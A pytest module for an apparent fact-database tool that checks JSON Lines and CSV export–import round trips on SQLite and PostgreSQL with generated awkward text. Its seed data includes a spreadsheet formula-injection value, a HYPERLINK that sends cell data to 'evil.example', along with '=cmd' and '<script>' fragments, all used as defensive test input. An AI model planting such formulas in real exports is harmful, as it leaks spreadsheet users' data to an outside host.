"""Export → import into an empty database → export again gives the same bytes (docs/design.md:
"export then import into an empty database is lossless"; docs/reliability.md).

JSON Lines carries everything (actors with kinds, aliases and parents, sources, sanctions with
their authority, targets and response links, claims, assertions with retractions); the flat
CSV carries the assertions that count. Both are checked on the seed article and on generated
nasty content (hypothesis): formula-like text, leading apostrophes, commas, quotes, newlines,
emoji, right-to-left text, partial dates, via chains of 0-4 actors and retractions. Every
test runs on SQLite and PostgreSQL.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import shutil
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, assume, given, reject, settings
from hypothesis import strategies as st
from sqlalchemy import Connection, inspect, text

from factdb.core.dates import PartialDate
from factdb.core.errors import Conflict
from factdb.core.keys import name_key
from factdb.domain.records import add_actor
from factdb.domain.sanctions import add_sanction
from factdb.domain.stances import add_assertion, retract
from factdb.storage import db
from factdb.storage.config import HISTORY_TABLES, DatabaseTarget
from factdb.storage.models import ActorKind, Stance
from tests.conftest import Cli, _pg_exec, _replace_db, pg_admin_url

# --- databases ----------------------------------------------------------------------------


def _fts_tables(conn: Connection) -> list[str]:
    """The SQLite full-text (FTS5) tables; none on PostgreSQL."""
    if conn.dialect.name != "sqlite":
        return []
    return [
        str(name)
        for (name,) in conn.execute(
            text("SELECT name FROM sqlite_master WHERE type = 'table' AND sql LIKE '%USING fts5%'")
        )
    ]


def counts(target: DatabaseTarget) -> dict[str, int]:
    db.dispose_all()
    with db.get_engine(target).connect() as conn:
        # The records, not their history: an import is recorded differently from the commands
        # that made the original.
        # Nor how a full-text index lays out its segments (``_data``, ``_idx``): one statement
        # for a whole import makes other segments than a trigger call per row. What it holds
        # is counted by ``_docsize``, a row per document, and checked by ``integrity-check``.
        fts = _fts_tables(conn)
        segments = {f"{t}_{part}" for t in fts for part in ("data", "idx")}
        names = sorted(
            n
            for n in inspect(conn).get_table_names()
            if n not in HISTORY_TABLES and n not in segments
        )
        for table in fts:
            conn.execute(text(f"INSERT INTO {table}({table}) VALUES ('integrity-check')"))
        out = {
            n: int(conn.execute(text(f'SELECT count(*) FROM "{n}"')).scalar_one()) for n in names
        }
    db.dispose_all()
    return out


@pytest.fixture
def make_db(
    backend: str, tmp_path: Path, request: pytest.FixtureRequest
) -> Iterator[Callable[[str], DatabaseTarget]]:
    """Makes more empty databases at the schema head on the test's backend: on SQLite with
    ``db.upgrade`` on a new file, on PostgreSQL from the migrated template database."""
    created: list[str] = []

    def make(label: str) -> DatabaseTarget:
        if backend == "sqlite":
            target = DatabaseTarget("sqlite:///" + str(tmp_path / f"{label}.sqlite3"), "--db")
            db.upgrade(target)
            db.dispose_all()
            return target
        template = request.getfixturevalue("pg_template")
        admin = pg_admin_url()
        assert admin is not None
        name = f"factdb_t_{uuid.uuid4().hex[:10]}"
        _pg_exec(admin, f"CREATE DATABASE {name} TEMPLATE {template}")
        created.append(name)
        return DatabaseTarget(_replace_db(admin, name), "--db")

    yield make
    db.dispose_all()
    admin = pg_admin_url()
    for name in created:
        assert admin is not None
        _pg_exec(admin, f"DROP DATABASE IF EXISTS {name} WITH (FORCE)")


def wipe(target: DatabaseTarget, sqlite_template: Path) -> None:
    """Back to an empty database at the schema head (fast enough for every example)."""
    db.dispose_all()
    if target.backend == "sqlite":
        path = target.sqlite_path
        assert path is not None
        for extra in (Path(f"{path}-wal"), Path(f"{path}-shm")):
            extra.unlink(missing_ok=True)
        shutil.copyfile(sqlite_template, path)
        return
    with db.get_engine(target).begin() as conn:
        # The records only: the change history refuses TRUNCATE (append-only), and what it
        # holds of the emptied tables stays true history.
        tables = [
            t
            for t in inspect(conn).get_table_names()
            if t != "alembic_version" and t not in HISTORY_TABLES
        ]
        conn.execute(
            text("TRUNCATE " + ", ".join(f'"{t}"' for t in tables) + " RESTART IDENTITY CASCADE")
        )
    db.dispose_all()


def roundtrip(source: Cli, empty: Cli, kind: str, folder: Path) -> tuple[bytes, bytes]:
    """Export ``source``, import into ``empty``, export that: the bytes of both exports.

    Through files, not stdout: the test runner's captured stdout folds CRLF into LF, which
    would hide a lost carriage return."""
    first, second = folder / f"first.{kind}", folder / f"second.{kind}"
    source.ok("export", str(first))
    empty.ok("import", str(first))
    empty.ok("export", str(second))
    return first.read_bytes(), second.read_bytes()


# --- the seed article, with retractions and nasty additions -------------------------------


def _enrich(cli: Cli) -> None:
    cli.ok("retract", "2", "--reason", 'misread,\n"quoted" reason ✓')
    cli.add(
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        by="@Evil",
        stance="asserts",
        source="https://Example.org/x?utm_source=feed&id=3#top",
        date="2024",
        quote='+1+2, "quoted"\nsecond line 😀',
        via=["KCNA", "Yonhap", "'Apostrophe"],
        tags=["=cmd"],
        outlet="-Outlet",
        title="\u202eRTL title مرحبا",
        published="2024-02",
    )
    cli.add(
        "'leading apostrophe claim",
        by="Russia",
        stance="denies",
        source="https://example.org/y",
        date="2025-01-31",
        violates=["UNSC Resolution 1718"],
    )
    cli.ok("actor", "add", "Yonhap News", "--kind", "media", "--alias", "@Yonhap")
    cli.ok(
        "sanction",
        "add",
        "=EU 2022/1394",
        "--authority",
        "Council of the EU",
        "--programme",
        'EU Iran drones, "2022"',
        "--adopted",
        "2022-10-20",
        "--target",
        "Shahed Aviation Industries",
        "--target",
        "Saeed Aghajani",
        "--listed",
        "2022-10",
        "--responds-to",
        "1",
    )
    cli.ok("sanction", "target", "=EU 2022/1394", "Saeed Aghajani", "--delisted", "2024")
    cli.ok("actor", "rename", "Council of the EU", "Council of the European Union")


def test_seed_jsonl_roundtrip_identical(seeded_cli, make_db, tmp_path):
    _enrich(seeded_cli)
    empty = Cli(make_db("b"))
    first, second = roundtrip(seeded_cli, empty, "jsonl", tmp_path)
    assert second == first
    assert counts(empty.target) == counts(seeded_cli.target)
    assert '"retraction_reason": "misread,\\n\\"quoted\\" reason ✓"' in first.decode()


def test_seed_jsonl_roundtrip_via_stdin_stdout(seeded_cli, make_db):
    _enrich(seeded_cli)
    empty = Cli(make_db("b"))
    first = seeded_cli.ok("export", "-", "--format", "jsonl").stdout
    empty.ok("import", "-", "--input-format", "jsonl", input=first)
    assert empty.ok("export", "-", "--format", "jsonl").stdout == first


def test_seed_csv_roundtrip_identical(seeded_cli, make_db, tmp_path):
    _enrich(seeded_cli)
    empty = Cli(make_db("c"))
    a_file, b_file = tmp_path / "a.csv", tmp_path / "b.csv"
    seeded_cli.ok("export", str(a_file))
    empty.ok("import", str(a_file))
    empty.ok("export", str(b_file))
    assert b_file.read_bytes() == a_file.read_bytes()
    # the retracted assertion is not in the flat format; the rest is
    [n] = empty.ok("sql", "SELECT count(*) AS n FROM assertion", "-f", "json").json()
    assert n["n"] == 18 - 1 + 2


# --- generated content ----------------------------------------------------------------------

SINGLE_LINE = [
    "=",
    "+",
    "-",
    "@",
    "'",
    ",",
    '"',
    " ",
    "\t",
    "a",
    "B",
    "1",
    "é",
    "ß",
    "😀",
    "🇺🇦",
    "مرحبا",
    "שלום",
    "\u202e",
    "<script>",
    "[bold]",
    "[/]",
    "NA",
    "null",
    "007",
    "\x1b[31m",
    "\x07",
]
MULTI_LINE = [*SINGLE_LINE, "\n", "\r\n", ";", "\r"]
URLS = [
    "https://example.org/a",
    "https://Example.org/b?utm_source=feed&id=1",
    "http://example.org/c#fragment",
    "https://www.example.org/d/",
    "https://example.org/e?q=%C3%A9&x=1,2",
]


def nasty(fragments: list[str], max_size: int = 6) -> st.SearchStrategy[str]:
    return (
        st.lists(st.sampled_from(fragments), min_size=1, max_size=max_size)
        .map("".join)
        .filter(lambda s: s.strip() != "")
    )


def partial_dates() -> st.SearchStrategy[PartialDate]:
    return st.builds(
        lambda y, m, d, p: PartialDate(
            dt.date(y, m if p != "year" else 1, d if p == "day" else 1), p
        ),
        st.integers(1, 2100),
        st.integers(1, 12),
        st.integers(1, 28),
        st.sampled_from(["year", "month", "day"]),
    )


@dataclass
class Scenario:
    hierarchy: tuple[str, str, str] | None = None  # parent, child, alias of the child
    sanction: tuple[str, str | None, str | None] | None = None  # name, authority, measures
    adds: list[dict[str, Any]] = field(default_factory=list)
    retractions: list[tuple[int, str]] = field(default_factory=list)


@st.composite
def scenarios(draw: Any) -> Scenario:
    scenario = Scenario()
    actors = draw(st.lists(nasty(SINGLE_LINE), min_size=1, max_size=4))
    claims = draw(st.lists(nasty(MULTI_LINE, 8), min_size=1, max_size=3))
    if draw(st.booleans()):
        parent, child, alias = (
            draw(nasty(SINGLE_LINE)),
            draw(nasty(SINGLE_LINE)),
            draw(nasty(SINGLE_LINE)),
        )
        keys = {name_key(parent), name_key(child), name_key(alias)}
        assume(len(keys) == 3)
        scenario.hierarchy = (parent, child, alias)
        actors += [parent, child, alias]
    if draw(st.booleans()):
        scenario.sanction = (
            draw(nasty(SINGLE_LINE)),
            # An authority of digits only is an actor id (docs/design.md, Sanctions).
            draw(st.none() | nasty(SINGLE_LINE).filter(lambda s: not s.strip().isdigit())),
            draw(st.none() | nasty(MULTI_LINE)),
        )
    for _ in range(draw(st.integers(1, 6))):
        add: dict[str, Any] = {
            "text": draw(st.sampled_from(claims)),
            "by": draw(st.sampled_from(actors)),
            "stance": draw(st.sampled_from(list(Stance))),
            "source_url": draw(st.sampled_from(URLS)),
            "date": draw(partial_dates()),
            "quote": draw(st.none() | nasty(MULTI_LINE, 8)),
            "via": draw(st.lists(st.sampled_from(actors), max_size=4)),
            "tags": draw(st.lists(nasty([f for f in SINGLE_LINE if f != " "], 3), max_size=2)),
            "outlet": draw(st.none() | nasty(SINGLE_LINE)),
            "title": draw(st.none() | nasty(SINGLE_LINE)),
            "published": draw(st.none() | partial_dates()),
        }
        if scenario.sanction is not None and draw(st.booleans()):
            add["violates"] = [scenario.sanction[0]]
        scenario.adds.append(add)
    for index in draw(st.lists(st.integers(0, len(scenario.adds) - 1), max_size=2, unique=True)):
        scenario.retractions.append((index, draw(nasty(MULTI_LINE))))
    return scenario


def apply(target: DatabaseTarget, scenario: Scenario) -> int:
    """Write the scenario through the domain functions; returns how many were retracted."""
    with db.session_scope(target) as session:
        if scenario.hierarchy is not None:
            parent, child, alias = scenario.hierarchy
            add_actor(session, name=parent, kind=ActorKind.state)
            add_actor(
                session, name=child, kind=ActorKind.government, part_of=parent, aliases=[alias]
            )
        if scenario.sanction is not None:
            name, authority, measures = scenario.sanction
            add_sanction(
                session,
                name=name,
                authority=authority,
                measures=measures,
                new_actor=True,
                allow_confusable=True,
            )
        # Generated names are often close to each other: each is meant as a new actor.
        ids = [add_assertion(session, **add, new_actor=True).assertion_id for add in scenario.adds]
        retracted: set[int] = set()
        for index, reason in scenario.retractions:
            if ids[index] not in retracted:
                retract(session, assertion_id=ids[index], reason=reason)
                retracted.add(ids[index])
    db.dispose_all()
    return len(retracted)


@pytest.fixture
def b_and_c(make_db):
    """Two more databases, made once per test and wiped for every example."""
    return make_db("b"), make_db("c")


# Generated scenarios per backend: a few in the suite; scripts/stress runs many more (it sets
# FACTDB_ROUNDTRIP_EXAMPLES).
ROUNDTRIP_EXAMPLES = int(os.environ.get("FACTDB_ROUNDTRIP_EXAMPLES", "8"))


@pytest.mark.slow
@settings(
    max_examples=ROUNDTRIP_EXAMPLES,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(scenario=scenarios())
def test_generated_content_roundtrip(target, b_and_c, sqlite_template, tmp_path, scenario):
    b_target, c_target = b_and_c
    for each in (target, b_target, c_target):
        wipe(each, sqlite_template)
    try:
        retracted = apply(target, scenario)
    except Conflict as exc:
        # A generated name that differs from a known one by invisible characters only is
        # refused (docs/reliability.md, look-alike names): nothing was written; no round trip.
        assert "invisible" in str(exc) or "looks like" in str(exc), exc
        reject()
    a, b, c = Cli(target), Cli(b_target), Cli(c_target)

    first, second = roundtrip(a, b, "jsonl", tmp_path)
    assert second == first
    in_a = counts(target)
    assert counts(b_target) == in_a
    assert first.count(b'"type": "assertion"') == in_a["assertion"] >= 1

    first_csv, second_csv = roundtrip(a, c, "csv", tmp_path)
    assert second_csv == first_csv
    rows = list(csv.reader(io.StringIO(first_csv.decode("utf-8"), newline="")))
    assert len(rows) - 1 == in_a["assertion"] - retracted  # the flat format: counted ones
